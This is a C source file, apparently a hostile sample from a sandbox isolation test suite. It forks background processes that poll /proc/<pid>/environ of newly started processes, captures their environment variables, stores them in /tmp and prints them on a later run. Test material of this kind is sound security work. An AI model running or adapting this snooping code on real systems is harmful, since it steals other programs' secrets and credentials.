// spy: the first start leaves processes behind that look at every process of the decoy as it appears, a program that waits
// at its gate above all; the next start prints what they found to standard error, and so into the report.
#include "hostile.h"

static void look(void) {
    static char text[1 << 17];
    int self = getpid(), proc = open("/proc", O_RDONLY | O_DIRECTORY), top = self + 1;
    nice(-20);
    for (;;) {
        for (int pid = top; pid < top + 6; pid++) {
            char path[64];
            snprintf(path, sizeof path, "%d/environ", pid);
            int fd = openat(proc, path, O_RDONLY);
            if (fd < 0) continue;
            ssize_t n = read(fd, text, sizeof text);
            close(fd);
            if (n > 0) {
                int out = open("/tmp/red-found.new", O_CREAT | O_WRONLY | O_TRUNC, 0644);
                int found = tell(out, path, text, n);
                close(out);
                if (found) {
                    rename("/tmp/red-found.new", "/tmp/red-found");
                    _exit(0);
                }
            }
            top = pid - 2 > self ? pid - 2 : self + 1;
        }
    }
}

int main(int argc, char **argv) {
    (void)argc;
    static char text[4096];
    ssize_t n = slurp("/tmp/red-found", text, sizeof text);
    if (n > 0) {
        write(2, text, n);
        return 9;
    }
    if (mkdir("/tmp/red-spy", 0700) == 0)
        for (int i = 0; i < 2; i++)
            if (background()) look();
    return lab0(argv);
}
